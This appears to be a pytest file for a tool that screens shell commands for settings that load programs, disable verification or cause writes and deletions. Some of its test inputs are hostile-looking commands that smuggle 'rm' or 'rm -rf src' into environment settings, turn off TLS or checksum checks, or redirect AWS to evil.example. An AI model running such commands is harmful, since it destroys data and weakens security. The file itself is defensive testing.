"""A setting that names a program, a file that is loaded or a home of settings is asked about, as its name has it."""

import pytest

from hub.contract.effects import Effect
from hub.screening.commands import is_dangerous, is_unknown, read_command

FOLDER = "/home/me/shop"
ASKING = (
    "GOCACHEPROG=./x go test ./...",
    "CARGO_HOME=./x cargo build",
    "RIPGREP_CONFIG_PATH=x rg foo",
    "env MIX_EXS=x.exs mix test",
    "export PSQLRC=x; psql -c 'select 1'",
    "CustomAfterMicrosoftCommonTargets=x.targets dotnet build",
    "ESBUILD_BINARY_PATH=./x npm run build",
    "CCACHE_COMPILER=x make",
    "CHROME_BIN=./x npm test",
    "RUFF_CONFIG=/tmp/x ruff check .",
    "VIMINIT=:q git commit",
    "SHARP_X='a; b' npm run build",
    "GOAUTH='rm -rf src' go mod download",
    "KUBECTL_EXTERNAL_DIFF=rm kubectl diff -f x",
    "HGMERGE=rm hg merge",
    "ZIPOPT=-m zip x y",
    "TOX_OVERRIDE=testenv.commands=rm tox",
    "NODE_TLS_REJECT_UNAUTHORIZED=0 npm ci",
    "GIT_SSL_NO_VERIFY=1 git fetch",
    "GOSUMDB=off go mod tidy",
    "NODE_ENV=production npx sequelize db:migrate",
    "AWS_ENDPOINT_URL_S3=http://evil.example aws s3 ls",
    "NVIM_APPNAME=other nvim a.txt",
    "XDG_DATA_HOME=/tmp/x nvim a.txt",
    "ANSIBLE_INVENTORY=/tmp/x ansible-inventory --graph",
)
WRITING = (
    *(f"{setting}=/srv/x {tool}" for setting, tool in (("MYPY_CACHE_DIR", "mypy src"), ("GOCACHE", "go vet ./..."))),
    *(f"{setting}=/srv/x {tool}" for setting, tool in (("XDG_CACHE_HOME", "black ."), ("CCACHE_DIR", "make"))),
    *("RUFF_CACHE_DIR=../x ruff check .", "HYPOTHESIS_STORAGE_DIRECTORY=/srv/x pytest", "MOCHA_FILE=/srv/x npx mocha"),
    *(f"PLAYWRIGHT_{name}=/srv/x npx playwright test" for name in ("HTML_OUTPUT_DIR", "JSON_OUTPUT_NAME")),
)
LOSING = (
    *(f"PLAYWRIGHT_{name}=src npx playwright test" for name in ("HTML_OUTPUT_DIR", "HTML_REPORT", "BLOB_OUTPUT_DIR")),
    *(
        "COVERAGE_FILE=src/a.py pytest",
        "JEST_JUNIT_OUTPUT_FILE=src/a.js npx jest",
        "export LOG_FILE=src/a.py; make test",
    ),
)
SILENT = (
    "CCACHE_COMPILER=gcc make",
    *(f"{setting} npx playwright test" for setting in ("PLAYWRIGHT_HTML_REPORT=report", "PLAYWRIGHT_BROWSERS_PATH=0")),
    *("MYPY_CACHE_DIR=/tmp/x mypy src", "GOCACHE=/tmp/go go vet ./...", "RUFF_CACHE_DIR=.cache/ruff ruff check ."),
    "CHROME_BIN=/usr/bin/chromium npm test",
    "BUILD_CONFIG=Release make",
    "SRC=src make test",
    "RUN_HOOKS=0 npm test",
    "HUSKY_SKIP_INIT=1 npm ci",
    "RUSTUP_TOOLCHAIN=nightly cargo test",
    "GREETING='hello world' npm test",
    "NODE_TLS_REJECT_UNAUTHORIZED=1 npm ci",
    "GOSUMDB=sum.golang.org go mod tidy",
    "NODE_ENV=test npx sequelize db:migrate",
    "GIT_MERGE_AUTOEDIT=no git merge main",
    "VERSION=$(git describe) make package",
    "DATABASE_URL='postgres://localhost/x?a=1&&b=2' pytest",
)


@pytest.mark.parametrize("command", ASKING)
def test_a_person_is_asked(command: str) -> None:
    reading = read_command(command, folder=FOLDER)
    assert is_dangerous(reading) or is_unknown(reading), reading


@pytest.mark.parametrize("command", WRITING)
def test_a_setting_by_which_a_tool_writes_outside_changes_the_system(command: str) -> None:
    assert Effect.CHANGES_SYSTEM in read_command(command, folder=FOLDER).effects


@pytest.mark.parametrize("command", LOSING)
def test_a_setting_by_which_a_tool_writes_over_the_project_deletes(command: str) -> None:
    assert Effect.DELETES in read_command(command, folder=FOLDER).effects


@pytest.mark.parametrize("command", SILENT)
def test_nobody_is_asked(command: str) -> None:
    reading = read_command(command, folder=FOLDER)
    assert not is_dangerous(reading), reading
    assert not is_unknown(reading), reading
